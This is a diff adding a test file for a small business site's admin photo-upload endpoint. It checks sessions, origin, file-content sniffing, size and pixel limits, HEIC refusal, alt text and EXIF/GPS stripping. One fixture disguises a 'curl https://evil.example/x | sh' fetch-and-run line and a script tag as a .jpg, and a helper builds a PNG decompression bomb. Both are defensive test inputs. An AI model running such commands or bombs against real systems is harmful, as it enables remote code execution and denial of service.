@@ -1,0 +1,294 @@
+/**
+ * The owner's photo uploads on the real build (decision 0030): refused without
+ * a session (401) or from another origin (403) with nothing read or stored;
+ * hostile files judged by their content (a script named .jpg, a decompression
+ * bomb, a file over the limit, a HEIC photo) and refused with a Bulgarian
+ * message on the field; a missing alt text refused with what was typed kept;
+ * and a good photo published upright, without its EXIF and GPS data. The
+ * test images are made here, with sharp and by hand. The build itself is
+ * simulated (a real one is in tests/e2e/gallery-upload.spec.ts).
+ */
+import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { deflateSync } from "node:zlib";
+import sharp from "sharp";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { adminGallery } from "~/content/admin";
+import { MAX_PIXELS, MAX_UPLOAD_BYTES } from "../../server/admin/photos";
+import { TEST_ORIGIN } from "../fixtures/enquiry";
+import { startAdminSite, type AdminSite } from "./admin-site";
+
+let site: AdminSite;
+let dataDir: string;
+let token: string;
+
+beforeAll(async () => {
+  dataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
+  site = await startAdminSite({
+    publishing: {
+      dataDir,
+      // The version's content is what these tests look at; its build is not needed.
+      runBuild: async () => {
+        throw new Error("simulated: no build in this test");
+      },
+    },
+  });
+  token = await site.session((await site.user()).id);
+}, 60_000);
+
+afterAll(async () => {
+  await site?.close();
+  rmSync(dataDir, { recursive: true, force: true });
+});
+
+/** A photo as a phone takes it: stored sideways with EXIF orientation 6, with the camera's make and a GPS position. */
+async function phonePhoto(width = 1200, height = 800) {
+  return sharp({ create: { width, height, channels: 3, background: "#3a7f4c" } })
+    .jpeg({ quality: 80 })
+    .withMetadata({ orientation: 6 })
+    .withExif({
+      IFD0: { Make: "TestPhone", Model: "Camera 1" },
+      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "42/1 52/1 3000/100", GPSLongitudeRef: "E", GPSLongitude: "25/1 19/1 0/1" },
+    })
+    .toBuffer();
+}
+
+/** The EXIF pointer to the GPS data (tag 0x8825, little-endian as sharp writes it). */
+const hasGps = (exif: Buffer | undefined) => Boolean(exif?.includes(Buffer.from([0x25, 0x88])));
+
+function crc32(bytes: Buffer) {
+  let crc = ~0;
+  for (const byte of bytes) {
+    crc ^= byte;
+    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
+  }
+  return ~crc >>> 0;
+}
+
+function pngChunk(type: string, content: Buffer) {
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(content.length);
+  const body = Buffer.concat([Buffer.from(type, "latin1"), content]);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, crc]);
+}
+
+/** A valid black-and-white PNG of `side` × `side` pixels: a few kilobytes that decode to `side`² pixels. */
+function pngBomb(side: number) {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(side, 0);
+  header.writeUInt32BE(side, 4);
+  header.set([1, 0, 0, 0, 0], 8); // 1 bit per pixel, greyscale
+  const rows = Buffer.alloc((1 + Math.ceil(side / 8)) * side); // filter byte 0 and black pixels, row after row
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk("IHDR", header),
+    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
+    pngChunk("IEND", Buffer.alloc(0)),
+  ]);
+}
+
+type Fields = Record<string, string>;
+const goodFields: Fields = {
+  intent: "upload",
+  service: "gardening",
+  caption: "Нова морава пред къща",
+  alt: "Окосена морава пред къща с дървена ограда",
+  date: "2026-11-20",
+};
+
+async function multipart(fields: Fields, files: Record<string, { data: Buffer; name: string; type: string }>) {
+  const form = new FormData();
+  for (const [name, value] of Object.entries(fields)) form.set(name, value);
+  for (const [name, file] of Object.entries(files)) form.set(name, new Blob([new Uint8Array(file.data)], { type: file.type }), file.name);
+  const request = new Request("http://localhost/", { method: "POST", body: form });
+  return { body: Buffer.from(await request.arrayBuffer()), type: request.headers.get("content-type")! };
+}
+
+async function upload(
+  files: Record<string, { data: Buffer; name: string; type: string }>,
+  { fields = goodFields, session = token as string | null, origin = TEST_ORIGIN as string | null } = {},
+) {
+  const { body, type } = await multipart(fields, files);
+  const response = await site.app.inject({
+    method: "POST",
+    url: "/admin/gallery",
+    headers: {
+      "content-type": type,
+      "accept-encoding": "identity",
+      ...(origin ? { origin } : {}),
+      ...(session ? { cookie: `admin=${session}` } : {}),
+    },
+    payload: body,
+  });
+  return { status: response.statusCode, body: response.body };
+}
+
+const photo = (data: Buffer, name = "IMG_0001.jpg", type = "image/jpeg") => ({ photo: { data, name, type } });
+/** What is stored: photos kept for publishing, and the versions made. */
+const stored = () => ({
+  kept: existsSync(path.join(dataDir, "uploads")) ? readdirSync(path.join(dataDir, "uploads")) : [],
+  versions: site.publisher!.store.list().length,
+});
+const keptPhotos = () => stored().kept.filter((name) => name.endsWith(".jpg"));
+const uploadTemps = () => readdirSync(os.tmpdir()).filter((name) => name.startsWith("upload-"));
+
+describe("who may upload", () => {
+  it("refuses an upload without a session (401), or with an ended one, and stores nothing", async () => {
+    const before = stored();
+    const data = await phonePhoto();
+    expect((await upload(photo(data), { session: null })).status).toBe(401);
+    expect((await upload(photo(data), { session: "forged-token-forged-token-forged-token-0000" })).status).toBe(401);
+    expect(stored()).toEqual(before);
+  });
+
+  it("refuses an upload from another origin, or without one (403), even signed in, and stores nothing", async () => {
+    const before = stored();
+    const data = await phonePhoto();
+    expect((await upload(photo(data), { origin: "https://evil.example" })).status).toBe(403);
+    expect((await upload(photo(data), { origin: null })).status).toBe(403);
+    expect(stored()).toEqual(before);
+  });
+});
+
+describe("hostile and unusable files", () => {
+  it("judges a file by its content: a script named .jpg and sent as image/jpeg is not a photo", async () => {
+    const before = stored();
+    const script = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n<script>alert(1)</script>\n");
+    const answer = await upload(photo(script, "holiday.jpg"));
+    expect(answer.status).toBe(400);
+    expect(answer.body).toContain(adminGallery.errors.notImage);
+    // What was typed is kept.
+    expect(answer.body).toContain(goodFields.alt);
+    expect(stored()).toEqual(before);
+  });
+
+  it("refuses a decompression bomb (a small PNG of more than MAX_PIXELS) without decoding it", async () => {
+    const side = Math.ceil(Math.sqrt(MAX_PIXELS)) + 1000;
+    const bomb = pngBomb(side);
+    expect(bomb.length).toBeLessThan(1024 * 1024);
+    const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
+    expect([meta.format, meta.width, meta.height]).toEqual(["png", side, side]);
+    const before = stored();
+    const answer = await upload(photo(bomb, "bomb.png", "image/png"));
+    expect(answer.status).toBe(400);
+    expect(answer.body).toContain(adminGallery.errors.tooManyPixels);
+    expect(stored()).toEqual(before);
+  });
+
+  it("refuses a 50 MB file with a Bulgarian message, keeping nothing of it", async () => {
+    const before = stored();
+    const temps = uploadTemps();
+    const big = Buffer.concat([await phonePhoto(), Buffer.alloc(50 * 1024 * 1024 - 100_000, 7)]);
+    expect(big.length).toBeGreaterThan(MAX_UPLOAD_BYTES);
+    const answer = await upload(photo(big, "big.jpg"));
+    expect(answer.status).toBe(400);
+    expect(answer.body).toContain(adminGallery.errors.tooLarge);
+    expect(stored()).toEqual(before);
+    expect(uploadTemps()).toEqual(temps);
+  });
+
+  it("refuses a HEIC photo (one an iPhone did not turn into JPEG) with its own message", async () => {
+    // The start of a HEIC file: its ISO media "ftyp" box with the brand "heic".
+    const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1"), Buffer.alloc(4096)]);
+    const answer = await upload(photo(heic, "IMG_0002.HEIC", "image/heic"));
+    expect(answer.status).toBe(400);
+    expect(answer.body).toContain(adminGallery.errors.heic);
+  });
+
+  it("asks for the alt text in Bulgarian, keeps what was typed and the photo, and publishes nothing", async () => {
+    const versions = stored().versions;
+    const answer = await upload(photo(await phonePhoto()), { fields: { ...goodFields, alt: "  " } });
+    expect(answer.status).toBe(400);
+    expect(answer.body).toContain(adminGallery.errors.alt);
+    expect(answer.body).toContain(goodFields.caption);
+    // The photo is kept: the form sends its name again, so it need not be chosen again.
+    const kept = /name="kept\.photo" value="(upload-[0-9a-f]{16}\.jpg)"/.exec(answer.body)?.[1];
+    expect(kept).toBeDefined();
+    expect(keptPhotos()).toContain(kept);
+    expect(stored().versions).toBe(versions);
+
+    // Sent again with the alt text and without the file: published with the kept photo.
+    const again = await upload({}, { fields: { ...goodFields, "kept.photo": kept! } });
+    expect(again.status).toBe(202);
+    await site.publisher!.settled();
+    const version = site.publisher!.store.list()[0]!;
+    const content = path.join(site.publisher!.store.versionContentDir(version.id));
+    const entries = JSON.parse(readFileSync(path.join(content, "gallery.json"), "utf8")).entries;
+    expect(entries[0]).toMatchObject({ file: kept, alt: goodFields.alt });
+  });
+});
+
+describe("a good photo", () => {
+  it("is published upright, without EXIF or GPS, with its entry validated by the gallery schema", async () => {
+    const input = await phonePhoto(1200, 800);
+    const inputMeta = await sharp(input).metadata();
+    expect(inputMeta.orientation).toBe(6);
+    expect(hasGps(inputMeta.exif)).toBe(true);
+    const before = await phonePhoto(1000, 700);
+
+    const answer = await upload(
+      { ...photo(input), before: { data: before, name: "IMG_0000.jpg", type: "image/jpeg" } },
+      { fields: { ...goodFields, beforeAlt: "Същата морава, обрасла, преди косенето" } },
+    );
+    expect(answer.status).toBe(202);
+    await site.publisher!.settled();
+    const version = site.publisher!.store.list()[0]!;
+    expect(version.change).toEqual(["gallery"]);
+    const content = site.publisher!.store.versionContentDir(version.id);
+    const [entry] = JSON.parse(readFileSync(path.join(content, "gallery.json"), "utf8")).entries;
+    expect(entry).toMatchObject({
+      service: "gardening",
+      caption: goodFields.caption,
+      alt: goodFields.alt,
+      date: goodFields.date,
+      before: { alt: "Същата морава, обрасла, преди косенето" },
+    });
+    for (const [file, upright] of [
+      [entry.file, [800, 1200]],
+      [entry.before.file, [700, 1000]],
+    ] as const) {
+      const meta = await sharp(path.join(content, "gallery", file)).metadata();
+      expect(meta.format).toBe("jpeg");
+      expect([meta.width, meta.height]).toEqual(upright);
+      expect(meta.exif).toBeUndefined();
+      expect(meta.xmp).toBeUndefined();
+      expect(meta.orientation).toBeUndefined();
+      expect(hasGps(meta.exif)).toBe(false);
+    }
+  });
+
+  it("can be edited and removed by the owner, each change published", async () => {
+    // Make the last version's edits the current ones, as a successful build would.
+    const latest = site.publisher!.store.list()[0]!;
+    site.publisher!.store.adoptContent(latest.id);
+    const [entry] = site.publisher!.store.currentOverlays().gallery!.entries;
+    expect(readdirSync(path.join(dataDir, "content", "gallery"))).toContain(entry!.file);
+
+    const post = (body: Fields) =>
+      site.app.inject({
+        method: "POST",
+        url: "/admin/gallery",
+        headers: { "content-type": "application/x-www-form-urlencoded", origin: TEST_ORIGIN, cookie: `admin=${token}` },
+        payload: new URLSearchParams(body).toString(),
+      });
+    const edit = { intent: "edit", id: entry!.id, service: "cleaning", caption: "Друг надпис", alt: entry!.alt, date: entry!.date };
+    const future = await post({ ...edit, date: "2999-01-01", beforeAlt: entry!.before!.alt });
+    expect(future.statusCode).toBe(400);
+    expect(future.body).toContain(adminGallery.errors.date);
+
+    expect((await post({ ...edit, beforeAlt: entry!.before!.alt })).statusCode).toBe(202);
+    await site.publisher!.settled();
+    const edited = JSON.parse(
+      readFileSync(path.join(site.publisher!.store.versionContentDir(site.publisher!.store.list()[0]!.id), "gallery.json"), "utf8"),
+    ).entries;
+    expect(edited[0]).toMatchObject({ id: entry!.id, service: "cleaning", caption: "Друг надпис" });
+
+    expect((await post({ intent: "remove", id: entry!.id })).statusCode).toBe(202);
+    await site.publisher!.settled();
+    const removed = site.publisher!.store.versionContentDir(site.publisher!.store.list()[0]!.id);
+    expect(existsSync(path.join(removed, "gallery.json"))).toBe(false);
+  });
+});
